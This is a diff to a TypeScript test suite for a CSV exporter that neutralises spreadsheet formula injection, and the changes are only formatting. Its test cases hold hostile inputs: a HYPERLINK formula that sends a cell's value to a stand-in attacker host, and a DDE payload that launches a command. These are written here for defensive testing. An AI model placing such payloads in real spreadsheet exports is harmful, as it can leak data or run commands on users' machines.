@@ -3,7 +3,7 @@ import { csvCell, csvDocument, neutraliseCell, restoreCell } from "./csv-safe";
 
 describe("CSV cells safe for spreadsheets (OWASP formula injection)", () => {
   it.each([
-    ["=HYPERLINK(\"https://evil.example/?\"&A1)", "'=HYPERLINK(\"https://evil.example/?\"&A1)"],
+    ['=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'],
     ["+SUM(A1:A9)", "'+SUM(A1:A9)"],
     ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
     ["@SUM(1)", "'@SUM(1)"],
@@ -26,7 +26,12 @@ describe("CSV cells safe for spreadsheets (OWASP formula injection)", () => {
     expect(csvCell("line\nbreak")).toBe('"line\nbreak"');
     expect(csvCell('say "hi", ok')).toBe('"say ""hi"", ok"');
     expect(csvCell(" padded")).toBe('" padded"');
-    expect(csvCell("\r=cmd")).toBe("\"'\r=cmd\"");
-    expect(csvDocument([["a", "b"], ["=1", "x\ry"]])).toBe("a,b\r\n'=1,\"x\ry\"\r\n");
+    expect(csvCell("\r=cmd")).toBe('"\'\r=cmd"');
+    expect(
+      csvDocument([
+        ["a", "b"],
+        ["=1", "x\ry"],
+      ]),
+    ).toBe('a,b\r\n\'=1,"x\ry"\r\n');
   });
 });
